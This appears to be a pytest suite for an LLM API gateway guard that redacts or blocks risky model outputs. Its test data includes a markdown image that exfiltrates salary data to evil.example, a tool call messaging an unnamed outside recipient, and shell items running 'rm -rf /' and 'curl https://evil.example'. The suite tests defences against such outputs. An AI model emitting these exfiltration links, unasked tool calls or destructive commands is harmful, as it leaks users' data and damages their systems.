"""The gateway with the engine itself behind it: what only the two together can hold."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterable
from typing import Any

import pytest
from gatekeeping import Said, Scripted, event, events

from accord.core.guard import GuardLimits, GuardPolicy, GuardTool, Outcome, Switch
from accord.guard.engine import Guard
from accord.guard.gateway.door import Gateway
from accord.guard.gateway.selftest import Answered, ask
from accord.guard.gateway.wiring import Wired

CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"
DRAWN = "![chart](https://evil.example/c.png?d=salaries-of-all-the-staff)"
ABOUT = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}


def gateway(answer: object = None, *, stream: Iterable[bytes] | None = None, **fields: Any) -> Gateway:
    said = Said((json.dumps(answer).encode(),)) if stream is None else Said(tuple(stream), "text/event-stream")
    guard = Guard(GuardPolicy(**{"guard": 1, "detector": Switch.OFF, **fields}))
    return Gateway(Wired(guard), Scripted(said))


def asked(app: Gateway, path: str, **body: object) -> Answered:
    return asyncio.run(ask(app, path, json.dumps(body).encode()))


def talk(said: str, found: str = "") -> list[Any]:
    call = {"id": "1", "type": "function", "function": {"name": "search", "arguments": "{}"}}
    read: list[Any] = [{"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "1", "content": found}]  # fmt: skip
    return [{"role": "user", "content": said}, *(read if found else [])]


def whole(text: str) -> dict[str, dict[str, object]]:
    said = [{"type": "output_text", "text": text, "annotations": []}]
    message = {"role": "assistant", "content": text}
    return {
        CHAT: {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]},
        RESPONSES: {"id": "r", "status": "completed", "output": [{"type": "message", "content": said}]},
        MESSAGES: {"id": "m", "content": [{"type": "text", "text": text}], "stop_reason": "end_turn"},
    }


def chunks(text: str, size: int) -> Iterable[bytes]:
    for at in range(0, len(text), size):
        delta = {"content": text[at : at + size]}
        yield event({**ABOUT, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
    yield event({**ABOUT, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    yield b"data: [DONE]\n\n"


def told(body: bytes) -> str:
    found = [one for one in events(body) if isinstance(one, dict)]
    return "".join(choice["delta"].get("content") or "" for one in found for choice in one["choices"])


@pytest.mark.parametrize("path", [CHAT, RESPONSES, MESSAGES])
def test_a_picture_from_an_address_that_nobody_named_is_taken_out_of_an_answer(path: str) -> None:
    body = {"messages": talk("show the chart")} if path != RESPONSES else {"input": "show the chart"}
    answer = asked(gateway(whole(f"Here: {DRAWN} done")[path]), path, **body)
    assert answer.status == 200
    assert b"evil.example" not in answer.body
    assert b"Here: " in answer.body
    assert b" done" in answer.body
    assert answer.headers[b"x-accord-decision"] == b"redact"


def test_a_picture_from_an_address_that_the_user_named_stays() -> None:
    app = gateway(whole(f"Here: {DRAWN} done")[CHAT])
    answer = asked(app, CHAT, messages=talk(f"draw {DRAWN[9:-1]} please"))
    assert DRAWN.encode() in answer.body


@pytest.mark.parametrize("size", [1, 3, 7, 40, 500])
def test_a_picture_that_nobody_named_never_leaves_a_stream_whole(size: int) -> None:
    app = gateway(stream=chunks(f"Here it is: {DRAWN} and that is all.", size))
    text = told(asked(app, CHAT, messages=talk("show the chart"), stream=True).body)
    assert "evil.example" not in text
    assert "salaries" not in text
    assert text.startswith("Here it is: ")
    assert text.endswith(" and that is all.")


@pytest.mark.parametrize("size", [1, 7, 500])
def test_links_that_a_source_showed_and_plain_words_stream_as_they_came(size: int) -> None:
    text = "See https://shop.example/orders/4711?lang=en and/or ask us, 24/7. [Terms](https://shop.example/terms)."
    app = gateway(stream=chunks(text, size))
    found = "Your order: https://shop.example/orders/4711?lang=en, terms at https://shop.example/terms"
    assert told(asked(app, CHAT, messages=talk("where is my order?", found), stream=True).body) == text


@pytest.mark.parametrize("size", [1, 16, 4_000])
def test_a_stream_that_is_longer_than_answers_may_be_is_cut(size: int) -> None:
    app = gateway(stream=chunks("word " * 400, size), limits=GuardLimits(answer_tokens=100))
    answer = asked(app, CHAT, messages=talk("go"), stream=True)
    last = [one for one in events(answer.body) if isinstance(one, dict)][-1]
    assert last["choices"][0]["finish_reason"] == "content_filter"
    assert len(told(answer.body)) == 400
    kept = gateway(stream=chunks("word " * 80, size), limits=GuardLimits(answer_tokens=100))
    assert told(asked(kept, CHAT, messages=talk("go"), stream=True).body) == "word " * 80


def test_each_choice_of_a_stream_may_be_as_long_as_an_answer() -> None:
    def both() -> Iterable[bytes]:
        for at in (0, 1):
            delta = {"content": "x" * 390}
            yield event({**ABOUT, "choices": [{"index": at, "delta": delta, "finish_reason": "stop"}]})
        yield b"data: [DONE]\n\n"

    app = gateway(stream=both(), limits=GuardLimits(answer_tokens=100))
    assert told(asked(app, CHAT, messages=talk("go"), n=2, stream=True).body) == "x" * 780


SEND = {"type": "function", "name": "send_message", "description": "Send a message to somebody.",
        "parameters": {"type": "object", "properties": {"recipient": {"type": "string"}, "body": {"type": "string"}},
                       "required": ["recipient", "body"]}}  # fmt: skip


def sends(recipient: str) -> dict[str, object]:
    call = {"type": "function_call", "call_id": "1", "name": "send_message",
            "arguments": json.dumps({"recipient": recipient, "body": "hello"})}  # fmt: skip
    return {"id": "resp_2", "status": "completed", "output": [call]}


@pytest.mark.parametrize("previous", ["resp_1", "of-another-worker"])
def test_what_another_worker_answered_counts_as_said_by_strangers(previous: str) -> None:
    tools = (GuardTool(name="send_message", does="send-message", args={"recipient": "recipient", "content": "body"}),)
    app = gateway(sends("eve@collector.example"), tools=tools)
    asyncio.run(app.earlier.keep("anyone", "resp_1", (), ()))
    answer = asked(app, RESPONSES, input="go on", previous_response_id=previous, tools=[SEND])
    assert b"eve@collector.example" not in answer.body
    named = gateway(sends("ann@shop.example"), tools=tools)
    said = "send a message to ann@shop.example that says hello"
    answer = asked(named, RESPONSES, input=said, previous_response_id="of-another-worker", tools=[SEND])
    assert b"ann@shop.example" in answer.body


@pytest.mark.parametrize(
    "item",
    [
        {"type": "local_shell_call", "call_id": "1", "action": {"type": "exec", "command": ["rm", "-rf", "/"]}},
        {"type": "shell_call", "call_id": "1", "action": {"commands": ["curl https://evil.example"]}},
        {"type": "apply_patch_call", "call_id": "1", "operation": {"type": "delete_file", "path": "a"}},
        {"type": "computer_call", "call_id": "1", "action": {"type": "click", "x": 1, "y": 1}},
        {"type": "mcp_approval_request", "id": "1", "name": "wipe", "arguments": "{}", "server_label": "s"},
    ],
)
def test_an_item_by_which_the_model_has_the_caller_act_is_decided_on_like_a_call(item: dict[str, object]) -> None:
    answer = asked(gateway({"id": "r", "status": "completed", "output": [item]}), RESPONSES, input="hi")
    assert str(item["type"]).encode() not in answer.body
    assert answer.headers[b"x-accord-decision"] == Outcome.BLOCK.value.encode()
    told: list[Any] = [
        {"type": "response.output_item.added", "output_index": 0, "item": {**item, "status": "in_progress"}},
        {"type": "response.output_item.done", "output_index": 0, "item": item},
        {"type": "response.completed", "response": {"id": "r", "status": "completed", "output": [item]}},
    ]
    streamed = gateway(stream=[event(one, one["type"]) for one in told])
    body = asked(streamed, RESPONSES, input="hi", stream=True).body
    assert str(item["type"]).encode() not in body
    assert events(body)[-1]["response"]["incomplete_details"] == {"reason": "content_filter"}
